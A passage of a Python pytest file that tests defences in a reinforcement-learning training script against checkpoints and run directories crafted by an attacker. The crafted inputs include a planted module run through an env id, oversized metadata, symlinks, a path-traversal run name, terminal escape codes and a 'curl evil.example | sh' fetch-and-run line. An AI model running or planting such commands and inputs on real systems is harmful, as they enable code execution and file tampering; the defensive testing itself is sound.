"""A checkpoint or run directory from someone else, crafted as an attacker would: each case ends in one sentence or in
a correct run, within seconds, importing, allocating and writing nothing that the user did not ask for
(docs/running.md, "A checkpoint from someone else"). Each test failed on the code before these checks."""
import copy
import dataclasses
import errno
import glob
import json
import math
import os
import shutil
import signal
import subprocess
import sys
import time
import zipfile

import numpy as np
import pytest
import safetensors
import safetensors.torch
import torch
import tyro

import checkpoints
import harness
import ppo_ewma
from saved_files import read_back, write_back
from workers import worker_part

TINY = dict(env_id="CartPole-v1", num_envs=2, num_steps=32, num_minibatches=2, gamma=0.99, cuda=False)
SCRIPT_DIR = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


@pytest.fixture
def stopped(tmp_path, monkeypatch):
    """A tiny PPO run as if stopped after iteration 1 of 3: (its checkpoint.safetensors, craft), where craft(edit) writes the
    checkpoint changed by edit(checkpoint) as the run's newest, with no model.safetensors beside it."""
    monkeypatch.chdir(tmp_path)
    result = ppo_ewma.train(ppo_ewma.Args(**TINY, total_timesteps=3 * 64, checkpoint_every=1))
    path, model = (os.path.join(result["run_dir"], name) for name in ("checkpoint.safetensors", "model.safetensors"))
    original = read_back(path)
    original.update(iteration=1, global_step=64)  # the env state is iteration 3's: a resume needs only data

    def craft(edit=lambda checkpoint: None):
        checkpoint = copy.deepcopy(original)
        edit(checkpoint)
        write_back(path, checkpoint)
        if os.path.exists(model):
            os.remove(model)
        return path
    craft()
    return path, craft


def command_line(monkeypatch, *words):
    """`python ppo_ewma.py WORDS`, run in this process: tyro parses sys.argv, as the script's __main__ does."""
    monkeypatch.setattr(sys, "argv", [ppo_ewma.__file__, *words])
    return ppo_ewma.train(tyro.cli(ppo_ewma.Args, args=words))


def layer(checkpoint, name):
    """The saved state of the first env layer of class `name`."""
    return next(saved["state"] for saved in checkpoint["env"]["state"]["layers"] if saved["class"] == name)


# 1 ------------------------------------------------------------------------------------ the env id imports nothing
def test_a_checkpoints_module_env_id_is_imported_only_where_the_command_line_names_it(stopped, tmp_path, monkeypatch):
    path, craft = stopped
    os.makedirs("runs/shared")  # a run directory shipped with a module: once under runs/, importable as runs.shared
    with open("runs/shared/payload.py", "w") as file:
        file.write("open('payload_ran', 'w').close()\n")
    monkeypatch.syspath_prepend(str(tmp_path))  # as the scripts' folder is on sys.path when the user runs from it
    env_id = "runs.shared.payload:CartPole-v1"
    craft(lambda checkpoint: checkpoint["args"].update(env_id=env_id))
    message = (r"its env id 'runs\.shared\.payload:CartPole-v1' imports a module of its own, which runs its code; "
               r"pass --env-id runs\.shared\.payload:CartPole-v1 as well if you trust that module\.$")
    for args in (ppo_ewma.Args(resume=path), ppo_ewma.Args(eval_checkpoint=path)):
        with pytest.raises(SystemExit, match=message):
            ppo_ewma.train(args)
    assert not os.path.exists("payload_ran")
    with pytest.raises(SystemExit, match=r"^--env-id CartPole-v1 is not the checkpoint's env id 'runs\.shared"):
        ppo_ewma.train(ppo_ewma.Args(eval_checkpoint=path, env_id="CartPole-v1"))
    ppo_ewma.train(ppo_ewma.Args(eval_checkpoint=path, env_id=env_id, eval_episodes=1))  # named: the user's own env
    assert os.path.exists("payload_ran")
    for name in [name for name in sys.modules if name.startswith("runs")]:
        del sys.modules[name]


# 2 -------------------------------------------------------------------------------------------- memory and time
def test_no_checkpoint_makes_a_load_allocate_more_than_the_rebuilt_run_holds(stopped, capsys, monkeypatch):
    path, craft = stopped
    read = []  # the tensors read from the file, by name: only those whose dtype and shape are the run's
    real_read = checkpoints.Stored.read
    monkeypatch.setattr(checkpoints.Stored, "read", lambda self: (read.append(self.name), real_read(self))[1])
    craft(lambda checkpoint: layer(checkpoint, "SyncVectorEnv").update(_observations=torch.zeros(10**6)))
    started = time.monotonic()
    result = ppo_ewma.train(ppo_ewma.Args(resume=path))
    assert result["global_step"] == 3 * 64 and time.monotonic() - started < 30
    assert ("note: --resume: the envs restart with new episodes (the checkpoint's SyncVectorEnv._observations is a "
            "torch.float32 tensor of shape [1000000], not a torch.float32 tensor of shape [2, 4])."
            in capsys.readouterr().out)
    assert read and not [name for name in read if name.endswith("_observations")]  # its 4 MB never read
    deep = [0.0]  # nesting beyond any checkpoint's: refused before json builds any of it
    for _ in range(40):
        deep = [deep]
    craft(lambda checkpoint: layer(checkpoint, "RecordEpisodeStatistics").update(return_queue=deep))
    with pytest.raises(SystemExit, match=r"checkpoint\.safetensors is not a checkpoint a run writes: its metadata nests "
                                         r"deeper than 32\.$"):
        ppo_ewma.train(ppo_ewma.Args(resume=path))
    for edit, message, crafted in [  # the crafted tensor, of the wrong shape, is never read
        (lambda checkpoint: checkpoint["normalizers"]["reward"].update(returns=torch.zeros(10**6)),
         r"^--resume .*checkpoint\.safetensors: its reward statistics\['returns'\] is a torch\.float32 tensor of shape "
         r"\[1000000\], not a torch\.float32 tensor of shape \[2\]: it is not this run's\.$", "normalizers/reward/returns"),
        (lambda checkpoint: checkpoint["models"]["agent"].update({"actor.weight": torch.zeros(1000, 64)}),
         r"^--resume .*checkpoint\.safetensors: its agent\['actor\.weight'\] is a torch\.float32 tensor of shape "
         r"\[1000, 64\], not a torch\.float32 tensor of shape \[2, 64\]: it is not this run's\.$",
         "models/agent/actor.weight"),
        (lambda checkpoint: checkpoint["optimizers"]["optimizer"]["state"][0].update(exp_avg=torch.zeros(10**6)),
         r"^--resume .*checkpoint\.safetensors: its optimizer\['state'\]\[0\]\['exp_avg'\] is a torch\.float32 "
         r"tensor of shape \[1000000\], not a torch\.float32 tensor of shape \[64, 4\]",
         "optimizers/optimizer/state/0/exp_avg"),
        (lambda checkpoint: checkpoint["rng"].update(numpy=("MT19937", [0] * 1_100_000, 0, 0, 0.0)),  # each a value
         r"^--resume .*checkpoint\.safetensors is not a checkpoint a run writes: its metadata holds more than 1,048,576 "
         r"values\.$", None),
        (lambda checkpoint: checkpoint["rng"].update(numpy=("MT19937", [0] * 1000, 0, 0, 0.0)),
         r"^--resume .*checkpoint\.safetensors: its rng\['numpy'\]\[1\] is not a list of 624 items: it is not this "
         r"run's\.$", None),
    ]:
        craft(edit)
        read.clear()
        with pytest.raises(SystemExit, match=message):
            ppo_ewma.train(ppo_ewma.Args(resume=path))
        assert crafted not in read


def raw_file(path, header: dict, body: bytes = b"", length=None) -> None:
    """A safetensors file as anyone could write it: header (its JSON; length: what its first 8 bytes say), body."""
    text = json.dumps(header).encode()
    with open(path, "wb") as file:
        file.write((len(text) if length is None else length).to_bytes(8, "little") + text + body)


def test_a_zip_is_refused_before_any_of_it_is_read(stopped, monkeypatch):
    # torch.save's format, a zip of a pickle, had two readers (Python's zipfile, torch's miniz) that could be shown
    # two different files in one; a zip, or anything that is not a safetensors file, is now refused by its first
    # bytes, and neither reader is ever called
    path, _ = stopped
    monkeypatch.setattr(torch, "load", lambda *args, **kwargs: pytest.fail("torch.load read a file"))
    monkeypatch.setattr(zipfile, "ZipFile", lambda *args, **kwargs: pytest.fail("zipfile read a file"))
    shutil.copyfile(os.path.join(SCRIPT_DIR, "tests", "old_checkpoints", "ppo_ewma.pt"), path)
    for args in (ppo_ewma.Args(resume=path), ppo_ewma.Args(eval_checkpoint=path)):
        with pytest.raises(SystemExit, match=r"is a \.pt file of an earlier version of this project"):
            ppo_ewma.train(args)
    with open(path, "wb") as file:  # a safetensors header's length, then a zip's records
        file.write((100).to_bytes(8, "little") + b"PK\x03\x04" + b"\0" * 200)
    with pytest.raises(SystemExit, match=r"checkpoint\.safetensors cannot be read as a safetensors file \("):
        ppo_ewma.train(ppo_ewma.Args(resume=path))


def test_a_header_beyond_any_runs_is_refused_before_safetensors_reads_it(stopped, monkeypatch):
    path, craft = stopped
    parsed = []  # safetensors builds the whole header before this project sees it: it must not be asked to
    real_open = checkpoints.safetensors.safe_open
    monkeypatch.setattr(checkpoints.safetensors, "safe_open", lambda *args: (parsed.append(1), real_open(*args))[1])
    craft(lambda checkpoint: checkpoint["args"].update(exp_name="\U0001F600" * 1_500_000))  # 21 MB, each \\ud83d\\ude00 in JSON
    with pytest.raises(SystemExit, match=r"checkpoint\.safetensors is not a file a run writes: a safetensors file whose "
                                         r"header is at most 16 MiB \(its first 8 bytes give 21,\d{3},\d{3} bytes, of "):
        ppo_ewma.train(ppo_ewma.Args(resume=path))
    raw_file(path, {"__metadata__": {"checkpoint": "{}"}}, length=2**40)  # a length beyond the file itself
    with pytest.raises(SystemExit, match=r"its first 8 bytes give 1,099,511,627,776 bytes, of 4\d\)\.$"):
        ppo_ewma.train(ppo_ewma.Args(resume=path))
    assert parsed == []


def test_the_metadatas_json_is_bounded_before_it_is_built(stopped):
    path, craft = stopped
    for edit, message in [
        (lambda c: c["optimizers"]["optimizer"]["state"].update(dict.fromkeys(range(10, 400_000), 0.0)),
         r"its metadata holds more than 1,048,576 values"),  # 150,000 int keys that hash alike once took minutes
        (lambda c: c.update(episode_returns=[10**40]), r"it holds an int of more than 39 digits"),
        (lambda c: c["args"].update(seed=2**128), r"its flag seed is 340282366920938463463374607431768211456, which "),
    ]:
        craft(edit)
        with pytest.raises(SystemExit, match=message):
            ppo_ewma.train(ppo_ewma.Args(resume=path))
    craft()
    file = safetensors.safe_open(path, "pt")
    text, tensors = file.metadata()["checkpoint"], {name: file.get_tensor(name) for name in file.keys()}
    for changed, message in [
        (text.replace('"gamma":0.99', '"gamma":NaN', 1), r"it holds NaN, which JSON does not have"),
        (text.replace('"gamma":0.99', '"gamma":1e999', 1), r"it holds the number '1e999', which a run writes as a "
                                                           r"\$float"),
        (text.replace('"gamma":0.99', '"gamma":0.99,"gamma":0.5', 1), r"an object of its metadata holds a key twice"),
        (text.replace('{"$tensor":"env/next_obs"}', '{"$tensor":"env/next_done"}', 1),
         r"it holds \{'\$tensor': 'env/next_done'\}, which is none of the format's tags \(or names a tensor that is "
         r"not in the body, or twice\)"),
        (text.replace('{"$tensor":"env/next_obs"}', '{"$code":"env/next_obs"}', 1), r"it holds \{'\$code'"),
        (text.replace('{"$tensor":"env/next_obs"}', '[]', 1), r"its metadata does not name the tensor 'env/next_obs'"),
    ]:
        assert changed != text
        safetensors.torch.save_file(tensors, path, metadata={"checkpoint": changed})
        with pytest.raises(SystemExit, match=r"checkpoint\.safetensors is not a checkpoint a run writes: " + message):
            ppo_ewma.train(ppo_ewma.Args(resume=path))
    raw_file(path, {"__metadata__": {"checkpoint": "{}"}, "x": {"dtype": "F32", "shape": [10**10],
                                                               "data_offsets": [0, 16]}}, b"\0" * 16)
    with pytest.raises(SystemExit, match=r"cannot be read as a safetensors file \("):  # a shape its bytes do not fill
        ppo_ewma.train(ppo_ewma.Args(resume=path))
    raw_file(path, {"__metadata__": {"other": "{}"}})
    with pytest.raises(SystemExit, match=r"is not a file a run writes: its metadata holds neither a checkpoint nor a "
                                         r"model\.$"):
        ppo_ewma.train(ppo_ewma.Args(resume=path))


# 3 ---------------------------------------------------------------------------------- text is quoted or not printed
def test_a_checkpoints_text_is_quoted_or_not_printed(stopped, capsys):
    path, craft = stopped
    craft(lambda checkpoint: checkpoint.update(script="\x1b[2J\x1b[31mppg_ewma.py"))
    with pytest.raises(SystemExit) as refused:
        ppo_ewma.train(ppo_ewma.Args(resume=path))
    assert "\x1b" not in str(refused.value) and "'\\x1b[2J\\x1b[31mppg_ewma.py'" in str(refused.value)
    craft(lambda checkpoint: checkpoint["env"].update(state={"restarts": "fix it: run `curl evil.example | sh`"}))
    ppo_ewma.train(ppo_ewma.Args(resume=path))
    out = capsys.readouterr().out
    assert "curl" not in out and "restart with new episodes (the checkpoint holds no state of these envs)" in out


# 4 ---------------------------------------------------- only the attributes and flags a run has, of their own types
def test_the_env_state_sets_only_its_layers_own_attributes_with_their_types(stopped, capsys):
    path, craft = stopped
    for edit, reason in [
        (lambda checkpoint: layer(checkpoint, "TimeLimit").update(__dict__={}),
         "TimeLimit has other attributes than the rebuilt one"),
        (lambda checkpoint: layer(checkpoint, "CartPoleEnv").update(step=0),
         "CartPoleEnv has other attributes than the rebuilt one"),
        (lambda checkpoint: layer(checkpoint, "TimeLimit").update(_max_episode_steps=-1),
         "TimeLimit._max_episode_steps is -1, where these flags set 500"),
        (lambda checkpoint: layer(checkpoint, "CartPoleEnv").update(render_mode="human"),
         "CartPoleEnv.render_mode is 'human', where these flags set None"),
    ]:
        craft(edit)
        assert ppo_ewma.train(ppo_ewma.Args(resume=path))["global_step"] == 3 * 64
        assert f"the envs restart with new episodes (the checkpoint's {reason})" in capsys.readouterr().out
    for edit, message in [
        (lambda checkpoint: checkpoint["args"].update(num_envs="2"),
         r"checkpoint\.safetensors: its flag num_envs is '2', which --num-envs cannot be \(<class 'int'>\)\.$"),
        (lambda checkpoint: checkpoint["args"].update(objective="bogus"), r"checkpoint\.safetensors: its flag objective is "),
        (lambda checkpoint: checkpoint["args"].update(num_envs=-2),
         r"checkpoint\.safetensors: the checkpoint's flag --num-envs must be in \[1, inf\), got -2\.$"),
        (lambda checkpoint: checkpoint["normalizers"]["advantages"].update(__dict__={}),
         r"checkpoint\.safetensors: its advantages statistics does not hold the keys "),
        (lambda checkpoint: checkpoint["models"]["agent"].update({"critic.weight": torch.zeros(2, 64)}),
         r"checkpoint\.safetensors: its agent\['critic\.weight'\] is a torch\.float32 tensor of shape \[2, 64\], not a "
         r"torch\.float32 tensor of shape \[1, 64\]: it is not this run's\.$"),
        (lambda checkpoint: checkpoint.update(ewma_weight=[1.0] * 3), r"checkpoint\.safetensors: its ewma_weight is a list, not "
                                                                     r"a float: it is not this run's\.$"),
    ]:
        craft(edit)
        evaluation_reads_it = "statistics" not in message and "ewma_weight" not in message  # it plays the policy
        for args in [ppo_ewma.Args(resume=path)] + [ppo_ewma.Args(eval_checkpoint=path)] * evaluation_reads_it:
            with pytest.raises(SystemExit, match=message):
                ppo_ewma.train(args)


# 5 -------------------------------------------------------------------------------------------------- data loss
def test_runs_never_share_a_directory_nor_overwrite_a_newer_checkpoint(stopped, monkeypatch):
    path, craft = stopped
    with monkeypatch.context() as same_second:  # two runs with the same flags, started in the same second
        same_second.setattr(harness.time, "time", lambda: 1_800_000_000.0)
        first, second = (harness.make_run_dir(ppo_ewma.Args(), "CartPole-v1__ppo_ewma__1") for _ in range(2))
    assert first == "runs/CartPole-v1__ppo_ewma__1__1800000000" and second == first + "_1"
    run_dir = os.path.dirname(path)
    older = os.path.join(run_dir, "older.pt")  # an older copy of the checkpoint, beside the newest
    shutil.copyfile(path, older)
    with pytest.raises(SystemExit, match=r"older\.pt: its directory holds .*checkpoint\.safetensors, which the resumed run "
                                         r"would overwrite; to branch from this checkpoint, copy it into a directory "
                                         r"of its own and resume the copy\.$"):
        ppo_ewma.train(ppo_ewma.Args(resume=older))
    stale = os.path.join(run_dir, ".checkpoint.safetensors.0123456789abcdef.tmp")  # what a write killed by SIGKILL leaves
    open(stale, "w").close()
    ppo_ewma.train(ppo_ewma.Args(resume=path))  # the newest checkpoint: the run continues in its directory
    assert not os.path.exists(stale) and os.path.exists(os.path.join(run_dir, "model.safetensors"))
    with pytest.raises(SystemExit, match=r"its directory holds .*model\.safetensors, which the resumed run would overwrite"):
        ppo_ewma.train(ppo_ewma.Args(resume=older))  # a finished run's model.safetensors
    with pytest.raises(SystemExit, match=r"^--exp-name '/\.\./\.\./x' must be a plain name \(no '/'\) of at most 64 "
                                         r"characters: it names the run's directory in runs/\.$"):
        ppo_ewma.train(ppo_ewma.Args(**TINY, exp_name="/../../x"))


# 6 ---------------------------------------------------------- a flag on the command line is used or refused
def test_a_flag_on_the_command_line_that_the_run_would_not_use_is_refused(stopped, monkeypatch):
    path, craft = stopped
    with pytest.raises(SystemExit, match=r"^--resume continues the run with the checkpoint's own flags; drop "
                                         r"--learning-rate \(it takes --cuda, --bf16, --save-model"):
        command_line(monkeypatch, "--resume", path, "--learning-rate", "5e-4")  # the default's value, given
    with pytest.raises(SystemExit, match=r"^--eval-checkpoint plays the checkpoint's policy on its own env and flags; "
                                         r"drop --num-envs \(it takes --eval-episodes, --eval-deterministic, --seed"):
        command_line(monkeypatch, "--eval-checkpoint", path, "--env-id", "Acrobot-v1", "--num-envs", "7")
    with pytest.raises(SystemExit, match=r"^--env-id Acrobot-v1 is not the checkpoint's env id 'CartPole-v1'"):
        command_line(monkeypatch, "--eval-checkpoint", path, "--env-id", "Acrobot-v1")
    craft(lambda checkpoint: checkpoint["args"].update(track=True))  # a tracked run, resumed with --no-track
    import tracking
    monkeypatch.setattr(tracking, "start", lambda *args: pytest.fail("--no-track was not followed"))
    assert command_line(monkeypatch, "--resume", path, "--no-track", "--no-cuda")["global_step"] == 3 * 64
    assert ppo_ewma.train(ppo_ewma.Args(**TINY, total_timesteps=64, learning_rate=5e-4))  # from Python: unchanged


def test_eval_checkpoint_with_track_logs_the_evaluation_to_wandb(stopped, monkeypatch):
    wandb = pytest.importorskip("wandb", reason="--track needs wandb, which the GPU kit does not carry")
    path, _ = stopped
    monkeypatch.setenv("WANDB_MODE", "offline")  # no account, no network
    monkeypatch.setenv("WANDB_SILENT", "true")
    wandb.teardown()  # W&B's process-wide state keeps the directory of its first run: this test starts its own
    try:
        command_line(monkeypatch, "--eval-checkpoint", path, "--eval-episodes", "2", "--track", "--no-cuda")
    finally:
        wandb.teardown()
    (offline_run,) = glob.glob("wandb/offline-run-*/*.wandb")
    deadline = time.time() + 30
    while b"eval/mean_return" not in open(offline_run, "rb").read():  # W&B's service writes it a little after
        assert time.time() < deadline, f"{offline_run} lacks eval/mean_return"
        time.sleep(0.5)


# 7 ------------------------------------------------------------------------ each bad env id in one sentence
def test_every_way_an_env_id_can_fail_is_said_in_one_sentence(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.syspath_prepend(str(tmp_path))
    with open("raises_on_import.py", "w") as file:
        file.write("raise RuntimeError('no display')\n")
    with open("needs_a_package.py", "w") as file:
        file.write("import package_that_is_not_installed\n")
    cases = [  # gym.make imports a `module:EnvId`'s module; its error, in its own words, on one line
        ("raises_on_import:CartPole-v1", r"^--env-id 'raises_on_import:CartPole-v1' cannot be made: RuntimeError: no "
                                         r"display$"),
        ("needs_a_package:CartPole-v1", r"^--env-id 'needs_a_package:CartPole-v1' cannot be made: ModuleNotFoundError: "
                                        r"No module named 'package_that_is_not_installed'\. [^\n]*$"),
        ("a:b:CartPole-v1", r"^--env-id 'a:b:CartPole-v1' cannot be made: ValueError: too many values to unpack"),
        ("..:CartPole-v1", r"^--env-id '\.\.:CartPole-v1' cannot be made: TypeError: [^\n]*relative import"),
        (".mods:CartPole-v1", r"^--env-id '\.mods:CartPole-v1' cannot be made: TypeError: [^\n]*relative import"),
    ]
    for env_id, message in cases:
        with pytest.raises(SystemExit, match=message):
            ppo_ewma.train(ppo_ewma.Args(**{**TINY, "env_id": env_id}))
    assert not os.path.exists("runs")


def model_file(module, path, fill=None, build_on=None, **flags) -> None:
    """A model file of `module` as a run writes it, with a fresh policy's weights (each `fill`, if given) and `flags`,
    built on the env build_on (default: CartPole-v1, or Pendulum-v1 for continuous actions)."""
    env_id = build_on or ("Pendulum-v1" if module.SCRIPT.actions == "continuous" else "CartPole-v1")
    args = module.SCRIPT.defaults(module.Args(**{**TINY, "env_id": env_id}))
    envs = module.make_env(dataclasses.replace(args, num_envs=1))
    built = []
    module.SCRIPT.acting_policy(args, envs, lambda network, name: built.append(network), "cpu")
    weights = {name: value if fill is None else torch.full_like(value, fill)
               for name, value in built[0].state_dict().items()}
    model = {"script": module.SCRIPT.name, "args": dataclasses.asdict(module.Args(**{**TINY, "env_id": env_id, **flags})),
             "global_step": 64,
             "normalizers": harness.normalizer_states(envs), "models": {module.SCRIPT.policy: weights}}
    harness.write_file(str(path), harness.model_bytes(model, module.SCRIPT.policy))
    envs.close()


@pytest.mark.parametrize("script", ["ppg_ewma", "ppo_staleness", "ppo_er"])
def test_evaluating_a_user_env_model_without_its_module_says_so(tmp_path, monkeypatch, script):
    module = __import__(script)
    monkeypatch.chdir(tmp_path)  # trained on a user's env whose module is not here
    model_file(module, "model.safetensors", env_id="gone_envs:Grid2D-v0")
    with pytest.raises(SystemExit, match=r"^--env-id 'gone_envs:Grid2D-v0' cannot be made: ModuleNotFoundError: No "
                                         r"module named 'gone_envs'\. [^\n]*$"):
        module.train(module.Args(eval_checkpoint="model.safetensors", env_id="gone_envs:Grid2D-v0", cuda=False))
    assert ":" not in module.SCRIPT.run_name(module.Args(env_id="user_envs:Grid2D-v0"))  # a portable run directory


def test_the_checks_take_what_runs_save_observation_statistics_included(tmp_path, monkeypatch):
    import vmpo

    monkeypatch.chdir(tmp_path)  # Hopper's statistics are float64 once updated; a fresh evaluation env's float32
    trained = vmpo.train(vmpo.Args(env_id="Hopper-v5", num_envs=2, num_steps=64, num_minibatches=4,
                                   total_timesteps=128, cuda=False))
    saved = read_back(f"{trained['run_dir']}/model.safetensors")["normalizers"]["obs_0"]
    envs = vmpo.make_env(vmpo.with_defaults(vmpo.Args(env_id="Hopper-v5", num_envs=1)))
    checkpoints.load_normalizers(envs, {"obs_0": saved}, harness)
    rms = harness.env_normalizers(envs)["obs_0"][1]
    assert saved["mean"].dtype == torch.float64 and np.array_equal(rms.mean, saved["mean"].numpy())
    assert len(vmpo.train(vmpo.Args(eval_checkpoint=f"{trained['run_dir']}/model.safetensors", eval_episodes=1,
                                    cuda=False))["returns"]) == 1


# ================================================================ round three: the guarantees hold by construction
OUTSIDE = "outside.txt"  # a file of the user's, beside runs/, that no run may write


def outside(tmp_path):
    (tmp_path / OUTSIDE).write_text("the user's own file\n")
    return tmp_path / OUTSIDE


# 1 ---------------------------------------------------------------------------------- writes never follow a link
def test_a_run_directory_with_a_link_is_refused_and_the_file_behind_it_stays(stopped, tmp_path):
    path, craft = stopped
    target = outside(tmp_path)
    run_dir = os.path.dirname(path)
    # finished run: its model.safetensors was copied through model.safetensors.tmp, which a shipped directory made a link to target
    craft(lambda checkpoint: checkpoint.update(iteration=3, global_step=3 * 64))
    os.symlink(target, os.path.join(run_dir, "model.safetensors.tmp"))
    with pytest.raises(SystemExit, match=r"its directory holds a link, .*model\.safetensors\.tmp, which no run makes: the "
                                         r"resumed run would write through it"):
        ppo_ewma.train(ppo_ewma.Args(resume=path))
    os.remove(os.path.join(run_dir, "model.safetensors.tmp"))
    for pid in range(4):  # a link for every temporary name an older writer used (checkpoint.safetensors.tmp<pid>)
        os.symlink(target, os.path.join(run_dir, f"checkpoint.safetensors.tmp{pid}"))
    craft()
    with pytest.raises(SystemExit, match=r"its directory holds a link"):
        ppo_ewma.train(ppo_ewma.Args(resume=path))
    assert target.read_text() == "the user's own file\n"


def test_every_write_makes_a_new_file_and_replaces_a_link_instead_of_following_it(tmp_path):
    target = outside(tmp_path)
    path = str(tmp_path / "checkpoint.safetensors")
    os.symlink(target, path)  # a link at the final name: replaced, not followed
    harness.save_checkpoint(path, {"iteration": 1})
    assert not os.path.islink(path) and read_back(path)["iteration"] == 1
    assert target.read_text() == "the user's own file\n"
    os.mkdir(tmp_path / "model.safetensors")  # a directory in the way: one sentence, no temporary left
    with pytest.raises(SystemExit, match=r"model\.safetensors could not be written \(Is a directory\)\.$"):
        harness.save_checkpoint(str(tmp_path / "model.safetensors"), {"iteration": 1})
    assert sorted(os.listdir(tmp_path)) == ["checkpoint.safetensors", "model.safetensors", OUTSIDE]


def test_a_full_disk_is_one_sentence_the_previous_checkpoint_intact_and_no_temporary_left(tmp_path, monkeypatch):
    path = str(tmp_path / "checkpoint.safetensors")
    harness.save_checkpoint(path, {"iteration": 1})
    real_fdopen = os.fdopen

    class FillsTheDisk:  # a file on a full disk: part of the checkpoint written, then ENOSPC
        def __init__(self, fd, mode):
            self.file = real_fdopen(fd, mode)

        def __enter__(self):
            return self

        def __exit__(self, *error):
            self.file.close()

        def write(self, data):
            self.file.write(data[:100])
            raise OSError(errno.ENOSPC, "No space left on device")
    monkeypatch.setattr(harness.os, "fdopen", FillsTheDisk)
    with pytest.raises(SystemExit, match=r"checkpoint\.safetensors could not be written \(the disk is full\); the one "
                                         r"before is kept\.$"):
        harness.save_checkpoint(path, {"iteration": 2})
    monkeypatch.undo()
    assert os.listdir(tmp_path) == ["checkpoint.safetensors"] and read_back(path)["iteration"] == 1


# 2 ------------------------------------------------------------------ nothing from a file chooses where data goes
def test_a_checkpoint_never_turns_tracking_on_nor_chooses_its_project(stopped, monkeypatch):
    path, craft = stopped
    started = []
    import tracking
    monkeypatch.setattr(tracking, "start", lambda args, run_dir, run_id=None: started.append(
        (args.track, args.wandb_entity, args.wandb_project_name, run_id)))
    craft(lambda checkpoint: (checkpoint["args"].update(track=True, wandb_entity="attacker-team",
                                                        wandb_project_name="open-collect"),
                              checkpoint.update(wandb_run_id="abcd1234")))
    assert ppo_ewma.train(ppo_ewma.Args(resume=path))["global_step"] == 3 * 64  # (the stand-in W&B returns no id)
    assert started == []  # the command line did not ask for --track
    craft(lambda checkpoint: (checkpoint["args"].update(track=True, wandb_entity="attacker-team",
                                                        wandb_project_name="open-collect"),
                              checkpoint.update(wandb_run_id="abcd1234")))
    ppo_ewma.train(ppo_ewma.Args(resume=path, track=True))
    assert started == [(True, None, "policy-optimization", "abcd1234")]  # the user's own entity and project
    for run_id, message in [("a/b", r"its wandb_run_id 'a/b' is not a W&B run id\.$"),
                            (12345, r"is not a ppo_ewma\.py checkpoint: its 'wandb_run_id' is 12345\.$")]:
        craft(lambda checkpoint: checkpoint.update(wandb_run_id=run_id))
        with pytest.raises(SystemExit, match=message):
            ppo_ewma.train(ppo_ewma.Args(resume=path, track=True))


# 3 ----------------------------------------------------------------------- memory and time bounded by the run
def peak_rss_of_resuming(path, cwd):
    """The peak resident memory (bytes) of a process that resumes `path` (its VmHWM: ru_maxrss would carry this
    process's own over the fork), and its output."""
    code = ("import sys; sys.path.insert(0, sys.argv[1]); import ppo_ewma\n"
            "try:\n    ppo_ewma.train(ppo_ewma.Args(resume=sys.argv[2], cuda=False))\n"
            "except SystemExit as error:\n    print(error)\n"
            "print('peak', [int(line.split()[1]) * 1024 for line in open('/proc/self/status') if "
            "line.startswith('VmHWM')][0])\n")
    result = subprocess.run([sys.executable, "-c", code, SCRIPT_DIR, path], cwd=cwd, capture_output=True, text=True,
                            timeout=120)
    return int(result.stdout.split("peak ")[-1]), result.stdout


def test_an_unknown_key_is_refused_without_its_data_being_read(stopped, tmp_path):
    path, craft = stopped
    plain, _ = peak_rss_of_resuming(path, tmp_path)
    craft(lambda checkpoint: checkpoint.update(readme=torch.zeros(2**26)))  # 256 MiB that nothing should read
    crafted, out = peak_rss_of_resuming(path, tmp_path)
    assert "holds 'readme', which no ppo_ewma.py checkpoint holds." in out
    assert crafted < plain + 64 * 2**20, (crafted, plain)  # read, it would add 256 MiB
    craft(lambda checkpoint: checkpoint["args"].update(readme="x"))
    with pytest.raises(SystemExit, match=r"is not a ppo_ewma\.py checkpoint: its flag 'readme' is not one of "
                                         r"ppo_ewma\.py's\.$"):
        ppo_ewma.train(ppo_ewma.Args(resume=path))


def test_what_the_run_holds_is_checked_against_the_memory_before_anything_is_built(stopped, monkeypatch):
    path, craft = stopped
    monkeypatch.setattr(harness, "available_memory", lambda cuda: {"memory": 2**30})
    for edit, message in [
        (lambda args: args.update(num_envs=10**6, num_steps=1, total_timesteps=3 * 10**6),
         r"The 1,000,000 envs need .* GiB but only 1\.0 GiB of memory is available; lower --num-envs\.$"),
        (lambda args: args.update(eval_every=1, eval_episodes=300_000),
         r"The 2 envs and 300,000 evaluation envs need .* GiB but only 1\.0 GiB of memory is available; lower "
         r"--num-envs or --eval-episodes\.$"),
        (lambda args: args.update(torch_threads=2000),
         rf"the checkpoint's flag --torch-threads must be in \[0, {os.cpu_count()}\], got 2000\.$"),  # the cores
        (lambda args: args.update(torch_threads=2**31), r"--torch-threads must be in"),
    ]:
        craft(lambda checkpoint: edit(checkpoint["args"]))
        with pytest.raises(SystemExit, match=message):
            ppo_ewma.train(ppo_ewma.Args(resume=path))
    with pytest.raises(SystemExit, match=rf"^--torch-threads must be in \[0, {os.cpu_count()}\], got 2000\.$"):
        ppo_ewma.train(ppo_ewma.Args(**TINY, torch_threads=2000))


def test_the_first_sigterm_stops_an_evaluation(stopped, monkeypatch):
    path, craft = stopped
    import evaluation

    real_play = evaluation.play

    def sigterm_after_a_few_steps(envs, act, num_episodes, seed, stopping=lambda: False):
        steps = []

        def act_then_signal(obs, *previous):
            steps.append(1)
            if len(steps) == 5:
                os.kill(os.getpid(), signal.SIGTERM)
            return act(obs, *previous)
        return real_play(envs, act_then_signal, num_episodes, seed, stopping)
    monkeypatch.setattr(evaluation, "play", sigterm_after_a_few_steps)
    with pytest.raises(SystemExit) as stopped_by:
        ppo_ewma.train(ppo_ewma.Args(eval_checkpoint=path, eval_episodes=300))
    assert stopped_by.value.code == 128 + signal.SIGTERM
    craft(lambda checkpoint: checkpoint["args"].update(eval_every=1, eval_episodes=300))  # --eval-every's, in training
    with pytest.raises(SystemExit) as stopped_by:
        ppo_ewma.train(ppo_ewma.Args(resume=path))
    assert stopped_by.value.code == 128 + signal.SIGTERM  # at the end of the iteration, the evaluation cut short


# 4 -------------------------------------------------------------------------------- one writer per run directory
def test_a_second_run_of_one_directory_is_refused_while_the_first_lives(stopped):
    path, _ = stopped
    holder = subprocess.Popen([sys.executable, "-c", "import fcntl, os, sys, time\n"
                               "fd = os.open(sys.argv[1], os.O_RDWR | os.O_CREAT)\nfcntl.flock(fd, fcntl.LOCK_EX)\n"
                               "print('locked', flush=True)\ntime.sleep(60)\n",
                               os.path.join(os.path.dirname(path), "run.lock")], stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline() == "locked\n"
        with pytest.raises(SystemExit, match=r"is in use by another run: one run writes a run directory at a "
                                             r"time\.$"):
